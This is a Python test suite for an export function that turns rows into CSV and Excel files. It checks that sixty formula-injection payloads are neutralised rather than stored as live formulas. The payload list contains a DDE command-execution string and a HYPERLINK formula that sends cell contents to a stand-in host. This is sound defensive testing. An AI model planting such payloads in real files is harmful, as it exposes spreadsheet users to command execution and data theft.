"""Sixty payloads that a spreadsheet would run, and none of them runs."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from servicing.pages import file_of

BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.test?"&A1,"pay")', "SUM(1)", "A1")
LEADS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t=", "\r=", "\n=", " =", "\u3000=", "\x00=", "\u200b=")
MORE = (
    "=+1", "-+1", "@@1", "\ufeff=1", "\u00a0=1", "\u00ad=1", "a;=1+1", "a; =1", "a;\t@x", "a;＝1", ";-1",
    "\u2028=1", "\u202e=1", "=\n1", '"=1"', "'=1", "==1", "+@1", "=1\x00", "\x0b=1",
)  # fmt: skip
PAYLOADS = (
    [lead + body for body in BODIES[:3] for lead in LEADS[:12]]
    + [lead + "A1" for lead in LEADS[12:] + LEADS[:4]]
    + list(MORE)[:17]
)
LIVE = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def read(format, rows, **more):
    response, digest = file_of(rows, format=format, name="x", **more)
    assert len(digest) == 64
    return response.content


def test_the_corpus_is_large_enough():
    assert len(set(PAYLOADS)) == len(PAYLOADS) == 60


@pytest.mark.parametrize("delimiter", [",", ";"])
def test_no_cell_of_a_csv_is_a_formula(delimiter):
    text = read("csv", [["head"], *([payload, "ok"] for payload in PAYLOADS)]).decode("utf-8-sig")
    found = list(csv.reader(io.StringIO(text), delimiter=delimiter))
    assert len(found) == 61
    live = [cell for row in found for cell in row if cell.strip(' "\u3000').startswith(LIVE)]
    assert live == []


def test_no_cell_of_a_workbook_is_a_formula():
    content = read("xlsx", [["head"], *([payload] for payload in PAYLOADS)])
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet
    cells = [row[0] for row in load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2)]
    assert len(cells) == 60
    assert [
        cell.value for cell in cells if cell.data_type == "f" or cell.value.lstrip().startswith(LIVE)
    ] == []


@given(st.text(max_size=20))
def test_any_text_can_stand_in_a_workbook(text):
    content = read("xlsx", [["head"], [text]])
    cell = load_workbook(io.BytesIO(content)).active["A2"]
    assert cell.data_type != "f"


@pytest.mark.parametrize("text", ["007", "123456789012345678", "1E5", "2026-11-23", "1/2"])
def test_digits_that_a_spreadsheet_would_mangle_stay_text(text):
    cell = load_workbook(io.BytesIO(read("xlsx", [["head"], [text]]))).active["A2"]
    assert (cell.value, cell.data_type) == (text, "s")


def test_numbers_and_money_stay_numbers():
    content = read("xlsx", [["head"], [-3, Decimal("1100.10"), 10**15]])
    days, money, long = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
    assert (days.value, money.value, long.value) == (-3, 1100.1, str(10**15))
    assert read("csv", [["head"], [-3, Decimal("1100.10")]]).decode("utf-8-sig").endswith("-3,1100.10\r\n")


@pytest.mark.parametrize("format", ["csv", "xlsx"])
def test_the_line_stands_above_everything_and_the_mark_only_in_words(format):
    content = read(
        format,
        [["number", "kind"], ["L1", "early"], ["L2", 5]],
        line="=wei",
        mark="\u200b\u200c",
        marked=(1,),
    )
    if format == "csv":
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    else:
        rows = [[cell for cell in row if cell is not None]
                for row in load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True)]  # fmt: skip
    assert rows[:3] == [["'=wei"], ["number", "kind"], ["L1", "early\u200b\u200c"]]
    assert [str(cell) for cell in rows[3]] == ["L2", "5"]
